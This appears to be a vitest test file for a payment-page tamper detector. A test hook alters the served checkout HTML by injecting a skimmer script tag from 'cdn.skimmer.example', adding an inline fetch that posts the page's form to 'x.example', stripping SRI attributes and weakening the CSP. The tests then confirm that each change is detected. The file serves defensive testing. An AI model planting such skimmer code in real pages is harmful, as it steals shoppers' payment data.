import { execFile } from 'node:child_process';
import { createServer } from 'node:net';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paymentPageProbes, verifyPaymentPages } from '../../src/modules/page-integrity/index.js';
import { readScriptInventory } from '../../src/web/script-inventory.js';
import { startStripeServer } from '../payments/provider-servers.js';
import { anOrder } from '../payments/support.js';
import { createTestApp, type TestApp } from '../support/test-app.js';
import { counterValue, stripeEnv } from './security-helpers.js';

const run = promisify(execFile);

/** A port nothing listens on now, so the app can be told its own address before it is built. */
async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  await new Promise<void>((resolve) => server.close(() => resolve()));
  return port;
}

/**
 * The tamper check against a real app on loopback: it fetches the payment pages over HTTP as a browser
 * would. The tampering is done to the served response (a hook on the app's way out), as a compromised
 * release, proxy or CDN would: a skimmer's script tag, an inline script, a dropped or weakened header.
 */
describe('payment page tamper detection', () => {
  let t: TestApp;
  let base: string;
  let stripe: Awaited<ReturnType<typeof startStripeServer>>;
  const tamper = { script: false, inline: false, dropHeader: false, stripIntegrity: false };
  let auditCount = 0;
  const tamperEvents = async () => (await t.audit.listForTarget('payment_pages', base, 50)).length;

  beforeAll(async () => {
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    stripe = await startStripeServer();
    t = await createTestApp({
      ...stripeEnv, STRIPE_SECRET_KEY: 'sk_test_loopback0000', STRIPE_API_BASE_URL: stripe.url, PAGE_INTEGRITY_CHECK_MINUTES: '15', PAGE_INTEGRITY_URL: base,
    });
    // Registered after the app's own hooks, so it changes the page after the security headers are set.
    t.app.addHook('onSend', async (request, reply, payload) => {
      if (!/^\/(checkout|pay\/)/.test(request.url) || typeof payload !== 'string') return payload;
      if (tamper.dropHeader) {
        reply.removeHeader('x-frame-options');
        reply.header('content-security-policy', String(reply.getHeader('content-security-policy')).replace('script-src', "script-src 'unsafe-inline'"));
      }
      let html = payload;
      if (tamper.script) html = html.replace('</head>', '<script src="https://cdn.skimmer.example/s.js?id=1"></script></head>');
      if (tamper.stripIntegrity) html = html.replace(/ integrity="[^"]*"/g, '');
      if (tamper.inline) html = html.replace('</body>', '<script>fetch("https://x.example", { method: "POST", body: document.forms[0] })</script></body>');
      return html;
    });
    await t.app.listen({ port, host: '127.0.0.1' });
    auditCount = await tamperEvents();
  });
  afterAll(async () => {
    await t?.close();
    await stripe?.close();
  });

  const check = () =>
    verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: paymentPageProbes, inventory: readScriptInventory(), providers: t.config.payments });

  it('finds the served payment pages equal to the inventory when nothing was changed', async () => {
    const report = await check();
    expect(report.pages.map((p) => p.path)).toEqual([...paymentPageProbes]);
    expect(report.differences).toEqual([]);
  });

  it('finds the real Stripe payment page (Stripe.js and our Payment Element script, with SRI) equal to the inventory', async () => {
    const { paymentId } = await t.payments.start({ ...anOrder(4_200), provider: 'stripe' });
    const path = await t.payments.pagePath(paymentId);
    const report = await verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: [path], inventory: readScriptInventory(), providers: t.config.payments });
    expect(report.pages[0]).toMatchObject({ path, status: 200 });
    expect(report.pages[0]?.scripts).toEqual(['https://js.stripe.com/v3/', expect.stringMatching(/^\/assets\/stripe-payment\.[0-9a-f]{12}\.js$/)]);
    expect(report.differences).toEqual([]);

    tamper.stripIntegrity = true;
    try {
      const stripped = await verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: [path], inventory: readScriptInventory(), providers: t.config.payments });
      expect(stripped.differences).toEqual([expect.objectContaining({ page: path, kind: 'integrity' })]);
    } finally {
      tamper.stripIntegrity = false;
    }
  });

  it('reports a script the inventory does not list, and inline code', async () => {
    Object.assign(tamper, { script: true, inline: true });
    try {
      const report = await check();
      expect(report.differences).toEqual(
        expect.arrayContaining([
          { page: '/checkout/page-integrity-probe', kind: 'unknown-script', detail: 'https://cdn.skimmer.example/s.js is not in the inventory' },
          { page: '/checkout/page-integrity-probe', kind: 'inline-script', detail: 'a <script> with inline code' },
        ]),
      );
    } finally {
      Object.assign(tamper, { script: false, inline: false });
    }
  });

  it('reports a dropped header and a weakened CSP', async () => {
    tamper.dropHeader = true;
    try {
      const kinds = (await check()).differences.map((d) => `${d.kind} ${d.detail.split(':')[0]}`);
      expect(kinds).toEqual(expect.arrayContaining(['header x-frame-options', 'header content-security-policy']));
    } finally {
      tamper.dropHeader = false;
    }
  });

  it('reports an own script whose served bytes or tag differ from the inventory', async () => {
    const inventory = readScriptInventory();
    const picker = inventory.otherScripts.find((s) => s.source === 'src/web/scripts/variant-picker.js')!;
    // An inventory that says the picker belongs on payment pages with other bytes: what a release built
    // from other code than the committed inventory looks like to the check.
    const changed = { ...inventory, paymentPageScripts: [...inventory.paymentPageScripts, { ...picker, integrity: 'sha384-AAAA' }] };
    const report = await verifyPaymentPages({ baseUrl: base, publicUrl: t.config.publicUrl, pages: [], inventory: changed, providers: ['stripe'] });
    expect(report.differences).toEqual([expect.objectContaining({ page: picker.src, kind: 'script-changed' })]);
  });

  it('runs on a schedule through the outbox, and reports a change at error, in the metric and in the audit trail', async () => {
    // The app scheduled the current interval's check when it became ready.
    await t.outbox.drain();
    expect(await tamperEvents()).toBe(auditCount);
    expect(t.logs.some((l) => l.msg === 'payment pages match the script inventory')).toBe(true);

    tamper.script = true;
    try {
      // The run enqueued the next interval's: nothing is due until the clock gets there.
      await t.outbox.drain();
      expect(await tamperEvents()).toBe(auditCount);
      t.clock.advance(15 * 60_000);
      await t.outbox.drain();
    } finally {
      tamper.script = false;
    }
    const events = await t.audit.listForTarget('payment_pages', base, 50);
    expect(events).toHaveLength(auditCount + 1);
    expect(events[0]).toMatchObject({ action: 'payment_pages.tamper_detected', actorType: 'system', outcome: 'failure' });
    expect(JSON.stringify(events[0])).toContain('cdn.skimmer.example/s.js');
    expect(await counterValue(t.metrics.registry, 'payment_page_tamper_total', { kind: 'unknown-script' })).toBeGreaterThanOrEqual(1);
    const line = t.logs.find((l) => l.msg === 'payment pages differ from the script inventory');
    expect(line?.level).toBe(50);
    expect(JSON.stringify(line)).not.toContain('id=1');

    // And the schedule goes on: the next interval's check is already written.
    t.clock.advance(15 * 60_000);
    await t.outbox.drain();
    expect(await t.audit.listForTarget('payment_pages', base, 50)).toHaveLength(auditCount + 1);
  });

  it('npm run pages:verify exits 0 on matching pages and 1 on a changed one', async () => {
    const env = { ...process.env, PAGE_INTEGRITY_URL: base, PUBLIC_URL: t.config.publicUrl, ...stripeEnv, NODE_ENV: 'test', DATABASE_URL: '' };
    const ok = await run('npx', ['tsx', 'src/cli/pages-verify.ts'], { env });
    expect(ok.stdout).toContain('match the script inventory');
    tamper.script = true;
    try {
      const failed = await run('npx', ['tsx', 'src/cli/pages-verify.ts'], { env }).then(
        () => undefined,
        (err: { code: number; stdout: string }) => err,
      );
      expect(failed?.code).toBe(1);
      expect(failed?.stdout).toContain('DIFFERENCE unknown-script /checkout/page-integrity-probe: https://cdn.skimmer.example/s.js is not in the inventory');
    } finally {
      tamper.script = false;
    }
  });
});
